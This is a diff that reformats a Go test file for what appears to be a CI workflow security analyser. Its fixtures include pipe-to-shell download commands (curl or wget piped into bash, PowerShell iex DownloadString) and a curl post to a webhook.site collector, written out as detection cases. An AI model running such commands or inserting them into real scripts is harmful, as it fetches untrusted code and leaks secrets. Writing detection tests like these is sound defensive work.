@@ -45,7 +45,8 @@ func TestWrites(t *testing.T) {
 
 func TestEvaluated(t *testing.T) {
 	for line, want := range map[string][]string{
-		`eval "echo $A ${B}"`: {"A", "B"}, `bash -c "x $A"`: {"A"}, `bash -c 'x $A'`: nil, `echo "$A"`: nil, `ssh host "run $A"`: {"A"},
+		`eval "echo $A ${B}"`: {"A", "B"}, `bash -c "x $A"`: {"A"}, `bash -c 'x $A'`: nil, `echo "$A"`: nil,
+		`ssh host "run $A"`:        {"A"},
 		`python3 -c "print('$A')"`: {"A"}, `iex $env:A`: {"A"}, `bash script.sh $A`: nil,
 	} {
 		if diff := cmp.Diff(want, Evaluated(line)); diff != "" {
@@ -56,8 +57,10 @@ func TestEvaluated(t *testing.T) {
 
 func TestFetched(t *testing.T) {
 	for line, want := range map[string]bool{
-		"curl -sSL https://x.example/i.sh | sudo -E bash -": true, "bash <(curl -s https://x.example)": true, "wget -qO- https://x.example | sh": true,
-		"iex (New-Object Net.WebClient).DownloadString('x')": true, "curl https://x.example -o f": false, "curl https://x.example | jq .": false, "curl https://x.example/k | apt-key add -": false,
+		"curl -sSL https://x.example/i.sh | sudo -E bash -": true, "bash <(curl -s https://x.example)": true,
+		"wget -qO- https://x.example | sh":                   true,
+		"iex (New-Object Net.WebClient).DownloadString('x')": true, "curl https://x.example -o f": false,
+		"curl https://x.example | jq .": false, "curl https://x.example/k | apt-key add -": false,
 	} {
 		if got := Fetched(line); got != want {
 			t.Errorf("%s: got %v", line, got)
@@ -67,8 +70,10 @@ func TestFetched(t *testing.T) {
 
 func TestAdHoc(t *testing.T) {
 	for line, want := range map[string]string{
-		"npm ci": "", "npm install": "", "npm i -g left-pad": "npm i -g left-pad", "npm install ./local": "", "yarn add x": "yarn add x", "yarn": "",
-		"pnpm --filter a install": "", "gem install rake": "gem install rake", "bundle install": "", "bundle add x": "bundle add x", "npx cowsay hi": "npx cowsay hi",
+		"npm ci": "", "npm install": "", "npm i -g left-pad": "npm i -g left-pad", "npm install ./local": "",
+		"yarn add x": "yarn add x", "yarn": "",
+		"pnpm --filter a install": "", "gem install rake": "gem install rake", "bundle install": "",
+		"bundle add x": "bundle add x", "npx cowsay hi": "npx cowsay hi",
 		"npm update": "npm update", "cd a && npm install b@1": "npm install b@1",
 	} {
 		if got := AdHoc(line); got != want {
@@ -84,7 +89,8 @@ func TestLogs(t *testing.T) {
 	if !Listed("env") || !Listed("printenv | sort") || Listed("env A=b make") || Listed("setup") {
 		t.Error("listed")
 	}
-	if Collector("curl -d @x https://webhook.site/1") != "webhook.site" || Collector("curl https://example.com/webhook") != "" {
+	if Collector("curl -d @x https://webhook.site/1") != "webhook.site" ||
+		Collector("curl https://example.com/webhook") != "" {
 		t.Error("collector")
 	}
 }
@@ -118,19 +124,21 @@ func TestReads(t *testing.T) {
 		Line bool
 	}
 	for text, want := range map[string][]read{
-		`$(gh pr view $N --json title --jq .title)`:                     {{"github.event.pull_request.title", false}},
-		`$(gh pr view $N --json headRefOid -q '.headRefOid')`:           {{"github.event.pull_request.head.sha", false}},
-		`$(gh issue view $N --json title,body)`:                         {{"github.event.issue", false}},
-		`$(gh api /repos/o/r/pulls/$N/files --jq '.[].filename')`:       {{"github.event.pull_request.filename", false}},
-		`$(jq -r .pull_request.title "$GITHUB_EVENT_PATH")`:             {{"github.event.pull_request.title", false}},
-		`$(git log -1 --format=%s)`:                                     {{"git.message", false}},
-		`$(git diff --name-only HEAD^)`:                                 {{"git.files", false}},
-		`$(cat pr/number.txt)`:                                          {{"file", false}},
-		`$(<pr/number)`:                                                 {{"file", false}},
-		`$(head -n 1 a.txt)`:                                            {{"file", true}},
-		`$(echo "$A" | cut -d / -f 2)`:                                  nil,
-		`$(echo "$A" | grep -oE '[0-9]+')`:                              nil,
-		`$(date +%s)`:                                                   nil,
+		`$(gh pr view $N --json title --jq .title)`: {{"github.event.pull_request.title", false}},
+		`$(gh pr view $N --json headRefOid -q '.headRefOid')`: {{"github.event.pull_request.head.sha",
+			false}},
+		`$(gh issue view $N --json title,body)`: {{"github.event.issue", false}},
+		`$(gh api /repos/o/r/pulls/$N/files --jq '.[].filename')`: {{"github.event.pull_request.filename",
+			false}},
+		`$(jq -r .pull_request.title "$GITHUB_EVENT_PATH")`: {{"github.event.pull_request.title", false}},
+		`$(git log -1 --format=%s)`:                         {{"git.message", false}},
+		`$(git diff --name-only HEAD^)`:                     {{"git.files", false}},
+		`$(cat pr/number.txt)`:                              {{"file", false}},
+		`$(<pr/number)`:                                     {{"file", false}},
+		`$(head -n 1 a.txt)`:                                {{"file", true}},
+		`$(echo "$A" | cut -d / -f 2)`:                      nil,
+		`$(echo "$A" | grep -oE '[0-9]+')`:                  nil,
+		`$(date +%s)`:                                       nil,
 		`$(curl -s https://api.github.com/repos/o/r/issues/1/comments)`: {{"github.event.comment", false}},
 	} {
 		var got []read
@@ -163,7 +171,8 @@ func TestChecked(t *testing.T) {
 }
 
 func TestQuery(t *testing.T) {
-	for text, want := range map[string]string{`jq -r '.head.ref'`: "head.ref", `gh api x --jq '.[0].title'`: "*.title", `jq .`: "", `jq '.a["b"]'`: "a.*"} {
+	for text, want := range map[string]string{`jq -r '.head.ref'`: "head.ref", `gh api x --jq '.[0].title'`: "*.title",
+		`jq .`: "", `jq '.a["b"]'`: "a.*"} {
 		if got, _ := Query(text); got != want {
 			t.Errorf("%s: got %q, want %q", text, got, want)
 		}
